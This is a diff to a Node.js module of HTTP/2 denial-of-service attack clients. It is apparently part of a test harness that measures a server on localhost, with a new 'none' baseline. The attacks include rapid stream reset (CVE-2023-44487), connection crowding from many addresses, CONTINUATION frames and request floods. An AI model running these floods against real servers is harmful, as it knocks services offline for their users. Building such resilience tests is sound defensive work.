@@ -1,7 +1,6 @@
 // The attacks: what each client does until it is told to stop, and what it counts. `target` is { port, paths }, where
 // `paths` name what is slow, small and large there. They run in a thread of their own; see attacker.mjs.
 // SPDX-License-Identifier: MIT
-import { once } from 'node:events';
 import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { FLAG, SETTING, TYPE, block, frame, indexed, preface, remembered, request, uint32 } from '../support/http2_frames.mjs';
@@ -24,15 +23,12 @@ function open(target, from = '127.0.0.1') {
 }
 
 /** Lets the other side work, and the socket drain. */
-async function give(socket) {
-  if (socket.writableNeedDrain && socket.isOpen()) await Promise.race([once(socket, 'drain').catch(() => {}), sleep(20)]);
-  else await new Promise(setImmediate);
-}
+const give = (socket) => (socket.writableNeedDrain && socket.isOpen() ? sleep(1) : new Promise(setImmediate));
 
 /** Again and again on a new connection: what `step(socket, first stream)` sends BATCH streams at a time. */
 async function streams(target, until, step) {
   let connections = 0;
-  let most = 0;
+  let sent = 0;
   while (Date.now() < until) {
     const socket = open(target);
     socket.resume().write(preface());
@@ -43,10 +39,10 @@ async function streams(target, until, step) {
       count += BATCH;
       await give(socket);
     }
-    most = Math.max(most, count);
+    sent += count;
     socket.destroy();
   }
-  return { connections, streamsOfOne: most };
+  return { connections, streams: sent };
 }
 
 const many = (count, make) => Array.from({ length: count }, (_, i) => make(i));
@@ -64,16 +60,17 @@ async function drip(sockets, until, drop) {
 
 /** A client of each address, with as many connections as it gets. */
 async function crowd(target, until, addresses, each) {
-  const sockets = [];
+  const sockets = new Map(addresses.map((address) => [address, []]));
+  let held = 0;
   while (Date.now() < until) {
-    for (const address of addresses) {
-      const mine = sockets.filter((socket) => socket.address === address && socket.isOpen()).length;
-      for (let i = mine; i < each; i++) sockets.push(Object.assign(open(target, address), { address }));
+    for (const [address, mine] of sockets) {
+      const alive = mine.filter((socket) => socket.isOpen());
+      sockets.set(address, alive.concat(many(each - alive.length, () => open(target, address))));
     }
-    await sleep(200);
+    await sleep(300);
+    held = Math.max(held, [...sockets.values()].flat().filter((socket) => socket.isOpen()).length);
   }
-  const held = sockets.filter((socket) => socket.isOpen()).length;
-  for (const socket of sockets) socket.destroy();
+  for (const socket of [...sockets.values()].flat()) socket.destroy();
   return { held };
 }
 
@@ -81,6 +78,11 @@ const beginBlock = (stream, path) => frame(TYPE.headers, FLAG.endStream, stream,
 const continuation = (payload = NOTHING) => frame(TYPE.continuation, FLAG.none, 1, payload);
 
 export const ATTACKS = {
+  /** None: what there is to compare with. */
+  async none(target, until) {
+    while (Date.now() < until) await sleep(50);
+  },
+
   /** CVE-2023-44487: requests that are cancelled at once. */
   rapidReset: (target, until) =>
     streams(target, until, (first) =>
@@ -272,12 +274,13 @@ export const ATTACKS = {
     await Promise.all(
       many(16, async () => {
         const socket = open(target);
-        while (socket.isOpen() && Date.now() < until) {
-          socket.write(ask);
-          const [bytes] = await Promise.race([once(socket, 'data'), once(socket, 'close'), sleep(2000, [])]).catch(() => []);
-          const status = bytes?.toString?.('latin1').split(' ')[1];
-          if (statuses[status]) counts[statuses[status]]++;
-        }
+        socket.on('data', (bytes) => {
+          const outcome = statuses[bytes.toString('latin1').split(' ')[1]];
+          if (outcome) counts[outcome]++;
+          if (Date.now() < until) socket.write(ask);
+        });
+        socket.write(ask);
+        while (socket.isOpen() && Date.now() < until) await sleep(20);
         socket.destroy();
       }),
     );
